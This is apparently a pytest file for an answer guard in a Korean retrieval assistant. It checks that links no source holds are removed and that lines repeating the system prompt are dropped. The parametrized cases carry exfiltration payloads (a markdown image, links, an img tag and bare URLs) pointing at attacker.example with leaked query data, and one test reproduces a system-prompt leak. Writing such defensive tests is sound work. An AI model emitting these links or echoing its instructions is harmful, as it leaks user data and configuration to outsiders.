"""What a model's answer may not pass on: links no source holds, its own instructions."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dalin.answer.guard import guard_answer, without_echoes, without_foreign_links
from dalin.answer.prompt import system_prompt

SOURCE = "[1] 설치 안내\n설명서는 https://www.hanbit.example/manual 에서 받습니다."


@pytest.mark.parametrize(
    "written",
    [
        "![status](https://attacker.example/c?q=%EC%97%B0%EC%B0%A8)",
        "[자세히 보기](https://attacker.example/c?q=leave)",
        '<img src="https://attacker.example/c?q=leave">',
        "Details: https://attacker.example/c?q=leave",
        "www.attacker.example/c?q=leave",
        "[x](<https://attacker.example/a b>)",
    ],
)
def test_a_link_no_source_holds_is_removed(written: str) -> None:
    cleaned = without_foreign_links(f"연차는 15일입니다 [1]. {written}", [SOURCE], "ko")
    assert "attacker" not in cleaned and "(링크 삭제됨)" in cleaned
    assert cleaned.startswith("연차는 15일입니다 [1].")


def test_a_link_the_sources_hold_stays() -> None:
    text = "설명서는 https://www.hanbit.example/manual 에서 받습니다 [1]."
    assert without_foreign_links(text, [SOURCE]) == text
    built = "설명서: https://www.hanbit.example/manual?q=연차"  # the source's link, with data
    assert "hanbit" not in without_foreign_links(built, [SOURCE])


def test_sentences_repeating_the_instructions_are_dropped() -> None:
    rules = system_prompt("ko")
    leak = rules.split("\n4.")[0]
    cleaned = without_echoes(f"연차휴가는 15일입니다 [1].\n\n{leak}", rules)
    assert cleaned.startswith("연차휴가는 15일입니다 [1].")
    for line in leak.splitlines()[2:]:  # every rule line (the bare "규칙:" heading may stay)
        if len(line.strip()) > 10:
            assert line.strip() not in cleaned


def test_an_ordinary_answer_passes_untouched() -> None:
    text = "직원의 연차휴가는 매년 15일입니다 [1]. 3년 이상 근속하면 1일을 더합니다 [2]."
    guarded = guard_answer(text, sources=[SOURCE], instructions=system_prompt("ko"), language="ko")
    assert guarded == text


@given(st.text(alphabet="가나다라마바사아자차카타파하 .,0123456789", max_size=200))
def test_text_without_links_or_rules_is_kept(text: str) -> None:
    assert without_foreign_links(text, []) == text
